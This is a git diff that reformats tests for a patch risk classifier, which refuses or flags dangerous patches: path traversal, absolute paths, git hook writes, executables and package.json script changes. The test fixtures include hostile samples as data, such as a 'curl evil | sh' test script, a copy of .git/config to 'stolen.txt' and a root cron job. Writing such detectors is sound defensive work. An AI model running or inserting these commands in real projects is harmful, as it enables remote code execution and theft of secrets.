@@ -14,13 +14,33 @@ function addFile(path: string, mode = '100644', body = '+x'): string {
 
 describe('risk classifier: paths', () => {
   it("refuses '..' traversal in every spelling", () => {
-    for (const p of ['../x', 'a/../../x', 'a/..', '..\\x', 'a\\..\\..\\x', 'a/../b', '．．/x', 'a/.. /x', 'a/.../x', 'a/\u2024\u2024/x']) {
+    for (const p of [
+      '../x',
+      'a/../../x',
+      'a/..',
+      '..\\x',
+      'a\\..\\..\\x',
+      'a/../b',
+      '．．/x',
+      'a/.. /x',
+      'a/.../x',
+      'a/\u2024\u2024/x',
+    ]) {
       assert.ok(kinds(p).includes('traversal'), `${p}: ${kinds(p).join(',')}`);
     }
   });
 
   it('refuses absolute paths (POSIX, drive letters, UNC, backslash)', () => {
-    for (const p of ['/etc/passwd', '//server/share/x', 'C:\\Windows\\x', 'c:/x', '\\\\server\\share', '\\x', 'Z:x', '／etc/passwd']) {
+    for (const p of [
+      '/etc/passwd',
+      '//server/share/x',
+      'C:\\Windows\\x',
+      'c:/x',
+      '\\\\server\\share',
+      '\\x',
+      'Z:x',
+      '／etc/passwd',
+    ]) {
       assert.ok(kinds(p).includes('absolute-path'), `${p}: ${kinds(p).join(',')}`);
     }
   });
@@ -81,7 +101,20 @@ describe('risk classifier: paths', () => {
   });
 
   it('accepts ordinary paths, including look-alikes that are not special', () => {
-    for (const p of ['src/index.ts', '.gitignore', 'src/git/client.ts', 'docs/.github.md', 'github/workflows/readme.md', 'my.git.txt', 'a/b.c/d', 'vscode/settings.json', 'envrc', 'café.txt', '..foo', 'foo..bar/x']) {
+    for (const p of [
+      'src/index.ts',
+      '.gitignore',
+      'src/git/client.ts',
+      'docs/.github.md',
+      'github/workflows/readme.md',
+      'my.git.txt',
+      'a/b.c/d',
+      'vscode/settings.json',
+      'envrc',
+      'café.txt',
+      '..foo',
+      'foo..bar/x',
+    ]) {
       assert.deepEqual(kinds(p), [], p);
     }
   });
@@ -106,42 +139,79 @@ describe('risk classifier: patches', () => {
   });
 
   it('refuses submodules (160000)', () => {
-    assert.ok(riskKinds('diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n+++ b/vendor/lib\n@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n').includes('refuse:submodule'));
-    assert.ok(riskKinds('diff --git a/m b/m\nindex 1111111..2222222 160000\n--- a/m\n+++ b/m\n@@ -1 +1 @@\n-Subproject commit a\n+Subproject commit b\n').includes('refuse:submodule'));
+    assert.ok(
+      riskKinds(
+        'diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n+++ b/vendor/lib\n@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n',
+      ).includes('refuse:submodule'),
+    );
+    assert.ok(
+      riskKinds(
+        'diff --git a/m b/m\nindex 1111111..2222222 160000\n--- a/m\n+++ b/m\n@@ -1 +1 @@\n-Subproject commit a\n+Subproject commit b\n',
+      ).includes('refuse:submodule'),
+    );
   });
 
   it('refuses mode changes to executable and new executable files, not the reverse', () => {
-    assert.ok(riskKinds('diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n').includes('refuse:executable'));
+    assert.ok(
+      riskKinds('diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n').includes('refuse:executable'),
+    );
     assert.ok(riskKinds(addFile('tool', '100755')).includes('refuse:executable'));
     assert.ok(riskKinds('diff --git a/x b/x\nold mode 100644\nnew mode 100744\n').includes('refuse:executable'));
     assert.deepEqual(riskKinds('diff --git a/run.sh b/run.sh\nold mode 100755\nnew mode 100644\n'), []);
   });
 
   it('refuses binary patches (both forms)', () => {
-    assert.ok(riskKinds('diff --git a/a.png b/a.png\nindex 1111111..2222222 100644\nBinary files a/a.png and b/a.png differ\n').includes('refuse:binary'));
-    assert.ok(riskKinds('diff --git a/a.bin b/a.bin\nnew file mode 100644\nindex 0000000..2222222\nGIT binary patch\nliteral 3\nKcmZQzWMT#Y01f~E\n\nliteral 0\nHcmV?d00001\n\n').includes('refuse:binary'));
+    assert.ok(
+      riskKinds(
+        'diff --git a/a.png b/a.png\nindex 1111111..2222222 100644\nBinary files a/a.png and b/a.png differ\n',
+      ).includes('refuse:binary'),
+    );
+    assert.ok(
+      riskKinds(
+        'diff --git a/a.bin b/a.bin\nnew file mode 100644\nindex 0000000..2222222\nGIT binary patch\nliteral 3\nKcmZQzWMT#Y01f~E\n\nliteral 0\nHcmV?d00001\n\n',
+      ).includes('refuse:binary'),
+    );
   });
 
   it('refuses a rename whose source or target is unsafe', () => {
-    assert.ok(riskKinds('diff --git a/ok.txt b/.git/hooks/post-merge\nsimilarity index 100%\nrename from ok.txt\nrename to .git/hooks/post-merge\n').includes('refuse:git-dir'));
-    assert.ok(riskKinds('diff --git a/.git/config b/stolen.txt\nsimilarity index 100%\ncopy from .git/config\ncopy to stolen.txt\n').includes('refuse:git-dir'));
+    assert.ok(
+      riskKinds(
+        'diff --git a/ok.txt b/.git/hooks/post-merge\nsimilarity index 100%\nrename from ok.txt\nrename to .git/hooks/post-merge\n',
+      ).includes('refuse:git-dir'),
+    );
+    assert.ok(
+      riskKinds(
+        'diff --git a/.git/config b/stolen.txt\nsimilarity index 100%\ncopy from .git/config\ncopy to stolen.txt\n',
+      ).includes('refuse:git-dir'),
+    );
   });
 
   it('refuses traversal and absolute names written in diff headers', () => {
     assert.ok(riskKinds(addFile('../outside.txt')).includes('refuse:traversal'));
-    assert.ok(riskKinds('--- a/x\n+++ b//etc/cron.d/job\n@@ -0,0 +1 @@\n+* * * * * root sh\n').includes('refuse:absolute-path'));
+    assert.ok(
+      riskKinds('--- a/x\n+++ b//etc/cron.d/job\n@@ -0,0 +1 @@\n+* * * * * root sh\n').includes('refuse:absolute-path'),
+    );
   });
 
   it('flags (does not refuse) package.json scripts changes, exactly when the file is known', () => {
-    const text = 'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n@@ -1,5 +1,5 @@\n {\n   "scripts": {\n-    "test": "node --test"\n+    "test": "curl evil | sh"\n   }\n }\n';
+    const text =
+      'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n@@ -1,5 +1,5 @@\n {\n   "scripts": {\n-    "test": "node --test"\n+    "test": "curl evil | sh"\n   }\n }\n';
     const report = classifyPatch(parsePatchText(text));
-    assert.deepEqual(report.items.map((i) => `${i.severity}:${i.kind}`), ['flag:package-scripts']);
+    assert.deepEqual(
+      report.items.map((i) => `${i.severity}:${i.kind}`),
+      ['flag:package-scripts'],
+    );
     assert.equal(report.refusedFiles.size, 0);
     const before = '{\n  "scripts": {\n    "test": "node --test"\n  }\n}\n';
     const exact = classifyPatch(parsePatchText(text), { readText: () => before });
     assert.match(exact.items[0].reason, /\(test\)/);
-    const depOnly = 'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n@@ -1,5 +1,5 @@\n {\n   "dependencies": {\n-    "x": "1.0.0"\n+    "x": "1.0.1"\n   }\n }\n';
-    assert.deepEqual(classifyPatch(parsePatchText(depOnly), { readText: () => '{\n  "dependencies": {\n    "x": "1.0.0"\n  }\n}\n' }).items, []);
+    const depOnly =
+      'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n@@ -1,5 +1,5 @@\n {\n   "dependencies": {\n-    "x": "1.0.0"\n+    "x": "1.0.1"\n   }\n }\n';
+    assert.deepEqual(
+      classifyPatch(parsePatchText(depOnly), { readText: () => '{\n  "dependencies": {\n    "x": "1.0.0"\n  }\n}\n' })
+        .items,
+      [],
+    );
     assert.deepEqual(classifyPatch(parsePatchText(depOnly)).items, []);
   });
 
@@ -149,9 +219,16 @@ describe('risk classifier: patches', () => {
     const text = addFile('.vscode/tasks.json') + addFile('src/ok.ts') + addFile('.git/hooks/pre-commit', '100755');
     const patch = parsePatchText(text);
     const report = classifyPatch(patch);
-    assert.deepEqual(report.items.map((i) => i.id).sort(), ['.git/hooks/pre-commit:executable', '.git/hooks/pre-commit:git-dir', '.vscode/tasks.json:sensitive-file']);
+    assert.deepEqual(report.items.map((i) => i.id).sort(), [
+      '.git/hooks/pre-commit:executable',
+      '.git/hooks/pre-commit:git-dir',
+      '.vscode/tasks.json:sensitive-file',
+    ]);
     assert.deepEqual(defaultSelection(patch, report).files, ['src/ok.ts']);
-    assert.deepEqual(defaultSelection(patch, report, ['.vscode/tasks.json:sensitive-file']).files, ['.vscode/tasks.json', 'src/ok.ts']);
+    assert.deepEqual(defaultSelection(patch, report, ['.vscode/tasks.json:sensitive-file']).files, [
+      '.vscode/tasks.json',
+      'src/ok.ts',
+    ]);
     // Overriding one of two refusals of a file is not enough.
     assert.deepEqual(defaultSelection(patch, report, ['.git/hooks/pre-commit:git-dir']).files, ['src/ok.ts']);
   });
